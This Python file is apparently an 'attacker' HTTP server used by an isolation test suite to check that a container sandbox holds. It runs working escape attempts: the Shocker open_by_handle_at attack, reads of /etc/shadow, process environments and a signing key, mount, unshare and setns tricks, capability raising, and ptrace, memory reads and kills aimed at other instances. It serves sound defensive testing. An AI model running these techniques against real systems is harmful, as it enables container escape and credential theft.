# An attacker's application: an HTTP server on $PORT that tries, from inside its instance, what
# an attacker would try to get out of it, and answers what happened as JSON. Each result is the
# value read or done, or "error:<ERRNO>" when the system refused. Run by isolation.test.ts.
import ctypes
import errno
import http.server
import json
import os
import signal
import subprocess
import urllib.parse

libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
NR = {
    "open_by_handle_at": 304 if X86 else 265,
    "ptrace": 101 if X86 else 117,
    "process_vm_readv": 310 if X86 else 270,
}


def last_error():
    e = ctypes.get_errno()
    return "error:" + errno.errorcode.get(e, str(e))


def call(result):
    return "ok" if result == 0 else last_error()


def attempt(f):
    try:
        return f()
    except OSError as e:
        return "error:" + errno.errorcode.get(e.errno, str(e.errno))
    except Exception as e:  # noqa: BLE001 - reported to the test
        return "error:" + type(e).__name__ + ": " + str(e)


def write(path):
    with open(path, "w") as f:
        f.write("written by the attacker\n")
    return "WROTE"


def read(path):
    with open(path, "rb") as f:
        return "READ:" + f.read(4096).decode("latin1")


def shocker(q):
    """open_by_handle_at with the handle of a host file (computed by the test on the host)."""
    handle = bytes.fromhex(q["handle"])

    class FileHandle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * len(handle))]

    fh = FileHandle(len(handle), int(q["type"]), (ctypes.c_ubyte * len(handle)).from_buffer_copy(handle))
    out = {}
    for mount_point in ["/", "/app", "/usr", "/tmp", "/proc", "/dev"]:
        try:
            mount_fd = os.open(mount_point, os.O_RDONLY)
        except OSError as e:
            out[mount_point] = "error:" + errno.errorcode.get(e.errno, str(e.errno))
            continue
        fd = libc.syscall(NR["open_by_handle_at"], mount_fd, ctypes.byref(fh), os.O_RDONLY)
        out[mount_point] = last_error() if fd < 0 else "READ:" + os.read(fd, 4096).decode("latin1")
        os.close(mount_fd)
    return out


def host_view(q):
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    return {
        "pid1_environ": attempt(lambda: read("/proc/1/environ")),
        "pid1_cmdline": attempt(lambda: read("/proc/1/cmdline")),
        "controller_environ": attempt(lambda: read("/proc/%s/environ" % q["controller_pid"])),
        "agent_environ": attempt(lambda: read("/proc/%s/environ" % q["agent_pid"])),
        "pids": pids,
        "sys": attempt(lambda: os.listdir("/sys")),
        "cgroup_limit": attempt(lambda: write("/sys/fs/cgroup/memory/memory.limit_in_bytes")),
        "agent_dir": os.path.exists(q["agent_dir"]),
        "controller_dir": os.path.exists(q["controller_dir"]),
        "controller_key": attempt(lambda: read(q["controller_dir"] + "/auth/token-signing-key.jwk")),
        "root_home": attempt(lambda: os.listdir("/root")),
        "shadow": attempt(lambda: read("/etc/shadow")),
    }


def host_writes(q):
    return {
        "usr": attempt(lambda: write("/usr/attack")),
        "etc": attempt(lambda: write("/etc/attack")),
        "host_dir": attempt(lambda: write(q["host_dir"] + "/attack")),
        "own_root": attempt(lambda: write("/app/mine.txt")),
    }


def mounts(q):
    return {
        "mount_tmpfs": call(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
        "bind_root": call(libc.mount(b"/", b"/tmp", None, 4096, None)),  # MS_BIND
        "remount_usr_rw": call(libc.mount(None, b"/usr", None, 32 | 4096, None)),  # MS_REMOUNT|MS_BIND
        "umount_proc": call(libc.umount2(b"/proc", 2)),  # MNT_DETACH
        "unshare_user_mount": call(libc.unshare(0x10000000 | 0x00020000)),  # CLONE_NEWUSER|CLONE_NEWNS
        "unshare_mount": call(libc.unshare(0x00020000)),
        "setns": attempt(lambda: call(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))),
        "setuid_mount_binary": attempt(lambda: subprocess.run(["/usr/bin/mount", "-t", "tmpfs", "none", "/tmp"], capture_output=True, text=True, timeout=10).returncode),
    }


def capabilities(q):
    fields = {}
    with open("/proc/self/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key.startswith("Cap") or key in ("NoNewPrivs", "Seccomp", "Uid", "Gid"):
                fields[key] = value.strip()

    class Header(ctypes.Structure):
        _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]

    class Data(ctypes.Structure):
        _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32), ("inheritable", ctypes.c_uint32)]

    header = Header(0x20080522, 0)
    data = (Data * 2)()
    for cap in (21, 2):  # CAP_SYS_ADMIN, CAP_DAC_READ_SEARCH
        data[0].effective |= 1 << cap
        data[0].permitted |= 1 << cap
    fields["capset_raise"] = call(libc.capset(ctypes.byref(header), data))
    fields["ambient_raise"] = call(libc.prctl(47, 2, 21, 0, 0))  # PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE
    fields["setuid_other"] = call(libc.setuid(1234))
    fields["chown_usr"] = attempt(lambda: os.chown("/usr/bin/python3", 1234, 1234) or "CHOWNED")
    return fields


def other_instance(q):
    pids = [int(p) for p in q["victim_pids"].split(",") if p]
    out = {
        "files": attempt(lambda: read(q["victim_file"])),
        "root_listing": attempt(lambda: os.listdir(q["victim_root"])),
    }
    for pid in pids:
        out["proc_root_%d" % pid] = attempt(lambda: read("/proc/%d/root/app/secret.txt" % pid))
        out["kill_%d" % pid] = attempt(lambda: os.kill(pid, signal.SIGKILL) or "KILLED")
        out["ptrace_%d" % pid] = last_error() if libc.syscall(NR["ptrace"], 16, pid, 0, 0) != 0 else "ATTACHED"  # PTRACE_ATTACH
        buf = ctypes.create_string_buffer(16)

        class IoVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 16)
        remote = IoVec(0x400000, 16)
        r = libc.syscall(NR["process_vm_readv"], pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        out["vm_read_%d" % pid] = last_error() if r < 0 else "READ"
    return out


ATTACKS = {
    "/shocker": shocker,
    "/host-view": host_view,
    "/host-writes": host_writes,
    "/mounts": mounts,
    "/capabilities": capabilities,
    "/other-instance": other_instance,
}


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        q = {k: v[0] for k, v in urllib.parse.parse_qs(url.query).items()}
        attack = ATTACKS.get(url.path)
        if attack is None:
            body, status = b'"ready"', 200 if url.path == "/" else 404
        else:
            try:
                body, status = json.dumps(attack(q)).encode(), 200
            except Exception as e:  # noqa: BLE001 - reported to the test
                body, status = json.dumps({"exception": repr(e)}).encode(), 500
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


print("attacker listening", flush=True)
http.server.HTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
